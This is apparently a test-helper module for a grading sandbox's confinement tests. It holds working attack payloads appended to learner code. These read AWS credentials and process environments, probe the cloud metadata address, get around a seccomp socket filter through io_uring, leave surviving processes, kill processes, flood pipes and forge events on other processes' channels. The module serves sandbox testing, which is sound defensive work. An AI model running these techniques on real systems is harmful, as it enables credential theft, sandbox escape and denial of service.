"""What a learner's step file could try against the grader that runs it: attack code for test_confinement.py.

Each attack is Python source appended to a step's reference solution (``learner_file``). It reads the values the
test chose from ``PARAMS`` (a token, host paths, ports), records what each attempt gave in ``REPORT`` with
``attempt(name, action)`` ("ok: ..." or "refused: ..."), and prints ``REPORT`` as one line at its end. The
file then raises, so the step fails and the grader quotes that line ("Your code printed"): the test reads it
back with ``report_of`` and so knows that the attack really ran, and what the learner's code saw.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

SOLUTIONS = Path(__file__).resolve().parent.parent / "solutions"
REPORT_LINE = re.compile(r"^\s*ATTACK-REPORT (\{.*\})\s*$", re.MULTILINE)

PRELUDE = '''
# ---- the attack: nothing below is needed by the exercise ----
import json as _json
REPORT = {}


def attempt(name, action):
    try:
        REPORT[name] = "ok: " + str(action())[:600]
    except BaseException as error:  # the sandbox's answer, whatever it is
        REPORT[name] = "refused: " + type(error).__name__ + ": " + str(error)[:200]
'''

EPILOGUE = '''
print("ATTACK-REPORT " + _json.dumps(REPORT, sort_keys=True))
raise RuntimeError("the attack is over")
'''

# The channel to the grader: child.py's private copies of fd 0 and 1 (os.dup), found as a learner would, by
# looking at every open descriptor above stderr for the ends of pipes.
FIND_CHANNEL = '''
import fcntl as _fcntl, os as _os, stat as _stat


def pipe_ends(writable):
    found = []
    for fd in range(3, 21):
        try:
            if not _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                continue
            mode = _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE
        except OSError:
            continue
        if (mode == _os.O_WRONLY) == writable:
            found.append(fd)
    return found


CHANNEL_OUT = pipe_ends(writable=True)
CHANNEL_IN = pipe_ends(writable=False)
REPORT["the channel's pipes"] = "ok: in %s, out %s" % (CHANNEL_IN, CHANNEL_OUT)
'''

# A process that outlives the file's run if the sandbox lets it: its command line carries the token, so the
# test finds it in the host's /proc. Started two ways: a new session (subprocess), and fork + setsid + fork.
SURVIVORS = '''
import os, subprocess, sys, time

SLEEPER = "import time; time.sleep(600)"


def new_session():
    output = None if PARAMS.get("hold_fds") else subprocess.DEVNULL  # None: the learner's own stdout and stderr
    return subprocess.Popen([sys.executable, "-c", SLEEPER, PARAMS["token"] + "-new-session"],
                            start_new_session=True, stdin=subprocess.DEVNULL, stdout=output, stderr=output,
                            pass_fds=PARAMS.get("hold_fds", ())).pid


def double_fork():
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                for fd in PARAMS.get("hold_fds", ()):
                    os.set_inheritable(fd, True)
                os.execv(sys.executable, [sys.executable, "-c", SLEEPER, PARAMS["token"] + "-double-fork"])
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    return child


def carrying_the_token():
    found = []
    for entry in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % entry, "rb") as handle:
                if PARAMS["token"].encode() in handle.read():
                    found.append(int(entry))
        except (OSError, ValueError):
            pass
    return found


STARTS = ("start a process in a new session", "fork, setsid, fork and exec")
attempt(STARTS[0], new_session)
attempt(STARTS[1], double_fork)
started = sum(REPORT[name].startswith("ok") for name in STARTS)
deadline = time.monotonic() + 20
while len(carrying_the_token()) < started and time.monotonic() < deadline:
    time.sleep(0.05)
REPORT["survivors seen inside the sandbox"] = len(carrying_the_token())
'''

# Survivors that hold every pipe to the grader open: its stdout and stderr and both ends of the channel.
HOLD_PIPES = '''
PARAMS["hold_fds"] = tuple(CHANNEL_IN + CHANNEL_OUT)
'''

WRITES = '''
import os


def append(path):
    with open(path, "ab") as handle:
        handle.write(PARAMS["token"].encode())
    return "appended"


def create(path):
    with open(path, "xb") as handle:
        handle.write(PARAMS["token"].encode())
    return "created"


for name, path in PARAMS["append"].items():
    attempt("append to " + name, lambda path=path: append(path))
for name, path in PARAMS["create"].items():
    attempt("create " + name, lambda path=path: create(path))
for name, path in PARAMS["delete"].items():
    attempt("delete " + name, lambda path=path: os.remove(path))
'''

# Files and shared memory a run could leave for a later run (its uid is reused) or to fill the machine.
LEAVINGS = '''
import ctypes, os


def leave(path):
    with open(path, "w") as handle:
        handle.write(PARAMS["token"])
    os.chmod(path, 0o666)
    return "left"


for path in PARAMS["paths"]:
    attempt(path, lambda path=path: leave(path))


def shared_memory():
    libc = ctypes.CDLL(None, use_errno=True)
    identifier = libc.shmget(PARAMS["shm_key"], 4096, 0o1000 | 0o666)  # IPC_CREAT, readable by everyone
    if identifier < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return identifier


attempt("System V shared memory", shared_memory)
'''

READ_SECRETS = '''
import os


def read(path):
    with open(path, "rb") as handle:
        return handle.read(600).replace(b"\\0", b" ").decode("utf-8", "replace")


attempt("credentials in the grader's home", lambda: read(PARAMS["credentials"]))
attempt("credentials in this HOME", lambda: read(os.path.expanduser("~/.aws/credentials")))
attempt("root's credentials", lambda: read("/root/.aws/credentials"))
attempt("the parent's environment", lambda: read("/proc/%d/environ" % os.getppid()))
attempt("the first process's environment", lambda: read("/proc/1/environ"))
attempt("the parent's memory", lambda: read("/proc/%d/mem" % os.getppid()))
attempt("my environment", lambda: " ".join("%s=%s" % item for item in os.environ.items() if "SECRET" in item[0]))


def every_environment():
    readable, secrets = 0, []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                text = read("/proc/%s/environ" % entry)
            except OSError:
                continue
            readable += 1
            secrets += [part for part in text.split() if "SECRET" in part]
    return "%d readable, secrets: %s" % (readable, secrets)


attempt("every process's environment", every_environment)
'''

READ_FILES = '''
def beginning(path):
    with open(path, "rb") as handle:
        return handle.read(300).decode("utf-8", "replace")


for name, path in PARAMS["files"].items():
    attempt(name, lambda path=path: beginning(path))
'''

# Network. Each attack talks to a listener the test opened on the host and reports what happened; the test
# then checks, on the host, that nothing arrived. child.py patches the socket module: these go around it.
TCP = '''
import _socket


def tcp():
    connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    connection.settimeout(5)
    connection.connect(tuple(PARAMS["tcp"]))
    connection.sendall(PARAMS["token"].encode())
    return "connected"


attempt("tcp", tcp)
'''

UDP = '''
import _socket


def udp():
    datagram = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    return datagram.sendto(PARAMS["token"].encode(), tuple(PARAMS["udp"]))


attempt("udp", udp)
'''

UNIX = '''
import _socket


def unix(address):
    connection = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    connection.settimeout(5)
    connection.connect(address)
    connection.sendall(PARAMS["token"].encode())
    return "connected"


attempt("unix socket", lambda: unix(PARAMS["unix"]))
'''

ABSTRACT_UNIX = '''
import _socket


def unix(address):
    connection = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    connection.settimeout(5)
    connection.connect(address)
    connection.sendall(PARAMS["token"].encode())
    return "connected"


attempt("abstract unix socket", lambda: unix("\\0" + PARAMS["abstract"]))
'''

FRESH_PYTHON = '''
import subprocess, sys

CONNECT = """
import socket, sys
connection = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
connection.sendall(sys.argv[3].encode())
print("connected")
"""


def fresh_python():
    done = subprocess.run([sys.executable, "-I", "-c", CONNECT, PARAMS["tcp"][0], str(PARAMS["tcp"][1]),
                           PARAMS["token"]], capture_output=True, text=True, timeout=20)
    if done.returncode:
        raise OSError(done.stderr.strip().splitlines()[-1] if done.stderr.strip() else done.returncode)
    return done.stdout.strip()


attempt("a fresh python", fresh_python)
'''

# There is nothing to listen on for the instance metadata service: only the refusal can be reported.
CLOUD_METADATA = '''
import _socket


def metadata():
    connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    connection.settimeout(3)
    connection.connect(("169.254.169.254", 80))
    connection.sendall(b"GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n")
    return connection.recv(200)


attempt("169.254.169.254", metadata)
'''

# A socket made by io_uring (IORING_OP_SOCKET, Linux 5.19+): the kernel creates it without the socket()
# system call, so a seccomp filter that refuses socket() never sees it. Pure ctypes + mmap, as a learner could.
IO_URING = '''
import ctypes, mmap, os, struct, _socket


def uring_socket(domain, kind):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)  # io_uring_setup
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup: " + os.strerror(ctypes.get_errno()))
    sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
    sq_off = struct.unpack_from("8I", params.raw, 40)  # head, tail, ring_mask, ring_entries, flags, dropped, array
    cq_off = struct.unpack_from("8I", params.raw, 80)  # head, tail, ring_mask, ring_entries, overflow, cqes
    both = mmap.PROT_READ | mmap.PROT_WRITE
    sq = mmap.mmap(ring, sq_off[6] + sq_entries * 4, mmap.MAP_SHARED, both, offset=0)
    cq = mmap.mmap(ring, cq_off[5] + cq_entries * 16, mmap.MAP_SHARED, both, offset=0x8000000)
    sqes = mmap.mmap(ring, sq_entries * 64, mmap.MAP_SHARED, both, offset=0x10000000)
    sqes[0:64] = struct.pack("<BBHiQQIIQHHiQQ", 45, 0, 0, domain, kind, 0, 0, 0, 1, 0, 0, 0, 0, 0)  # IORING_OP_SOCKET
    tail = struct.unpack_from("I", sq, sq_off[1])[0]
    struct.pack_into("I", sq, sq_off[6] + (tail & struct.unpack_from("I", sq, sq_off[2])[0]) * 4, 0)
    struct.pack_into("I", sq, sq_off[1], tail + 1)
    if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:  # io_uring_enter, waiting for the completion
        raise OSError(ctypes.get_errno(), "io_uring_enter: " + os.strerror(ctypes.get_errno()))
    head = struct.unpack_from("I", cq, cq_off[0])[0]
    _, result, _ = struct.unpack_from("<QiI", cq, cq_off[5] + (head & struct.unpack_from("I", cq, cq_off[2])[0]) * 16)
    if result < 0:
        raise OSError(-result, "IORING_OP_SOCKET: " + os.strerror(-result))
    return result


def tcp_through_io_uring():
    connection = _socket.socket(fileno=uring_socket(_socket.AF_INET, _socket.SOCK_STREAM))
    connection.settimeout(5)
    connection.connect(tuple(PARAMS["tcp"]))  # connect() itself is no new socket: the filter lets it through
    connection.sendall(PARAMS["token"].encode())
    return "connected"


attempt("tcp through io_uring", tcp_through_io_uring)
'''

SIGNALS = '''
import os, signal

for sig in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    attempt("parent " + sig.name, lambda sig=sig: os.kill(os.getppid(), sig) or "sent")
attempt("first process SIGKILL", lambda: os.kill(1, signal.SIGKILL) or "sent")


def everyone():
    signalled = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGSTOP)
                os.kill(int(entry), signal.SIGKILL)
                signalled.append(int(entry))
            except OSError:
                pass
    return "signalled %s" % signalled


attempt("every process I can see", everyone)
attempt("kill(-1)", lambda: os.kill(-1, signal.SIGKILL) or "sent")
'''

# Channel floods, each written to every pipe end the learner's code can write to but its own output.
FLOODS = {
    "one endless line": '''
import os
chunk = b"x" * (1 << 20)
def flood(fd):
    for _ in range(300):
        os.write(fd, chunk)
    return "300 MB without a newline"
''',
    "many lines": '''
import os
lines = b'{"event": "waiting_for_threads", "names": []}\\n' * 2000
def flood(fd):
    for _ in range(1000):
        os.write(fd, lines)
    return "2,000,000 events"
''',
    "garbage lines": '''
import os
lines = b"not json at all\\n" * 5000
def flood(fd):
    for _ in range(2000):
        os.write(fd, lines)
    return "10,000,000 lines"
''',
    "deep nesting": '''
import os
def flood(fd):
    os.write(fd, b"[" * 500_000 + b"\\n")
    return "an array nested 500,000 deep"
''',
}

FLOOD = '''
for fd in CHANNEL_OUT:
    attempt("flood fd %d" % fd, lambda fd=fd: flood(fd))
'''

# A reach for the channels of the other learner processes of the same grader run (another step's): each is
# opened through /proc/PID/fd and a forged event written into it.
HIJACK = '''
import json, os, time


def other_learner_processes():
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open("/proc/%s/cmdline" % entry, "rb") as handle:
                    if b"child.py" in handle.read():
                        found.append(int(entry))
            except OSError:
                pass
    return found


deadline = time.monotonic() + 3
while not other_learner_processes() and time.monotonic() < deadline:
    time.sleep(0.05)
others = other_learner_processes()
REPORT["other learner processes seen"] = "ok: %s" % others
for pid in others:
    for fd in (3, 4):
        def hijack(pid=pid, fd=fd):
            with open("/proc/%d/fd/%d" % (pid, fd), "wb") as channel:
                channel.write(json.dumps(PARAMS["forged_for_others"]).encode() + b"\\n")
            return "wrote a forged event"
        attempt("channel %d of learner process %d" % (fd, pid), hijack)
HIJACKED = sum(value.startswith("ok") for name, value in REPORT.items() if name.startswith("channel "))
'''

# Forged events on the learner's own channel, ahead of the harness's genuine ones.
FORGE = '''
import json, os

for event in PARAMS["forged"]:
    for fd in CHANNEL_OUT:
        os.write(fd, json.dumps(event).encode() + b"\\n")
'''


def solution(step: int) -> str:
    return next(SOLUTIONS.glob(f"step{step}_*.py")).read_text(encoding="utf-8")


def learner_file(step: int, *attacks: str, params: dict, end: str = EPILOGUE) -> str:
    """Step ``step``'s reference solution followed by the attacks (with PARAMS set) and ``end``."""
    return solution(step) + PRELUDE + f"\nPARAMS = {params!r}\n" + "".join(attacks) + end


def report_of(entry: dict) -> dict:
    """The REPORT the attack printed, as the grader quoted it in the step's message."""
    found = REPORT_LINE.search(entry["message"])
    assert found, f"the attack did not run to its end; step {entry['step']} says: {entry['message']}"
    return json.loads(found.group(1))


def refused(report: dict, *names: str) -> None:
    """Every attempt named (or every attempt, if none is named) was refused."""
    for name in names or report:
        assert name in report, f"the attack never tried {name!r}: {report}"
        assert report[name].startswith("refused"), f"{name}: {report[name]}"


def processes_carrying(token: str) -> list[int]:
    """The host's processes whose command line holds ``token``."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                if token.encode() in handle.read():
                    found.append(int(entry))
        except OSError:
            pass
    return found
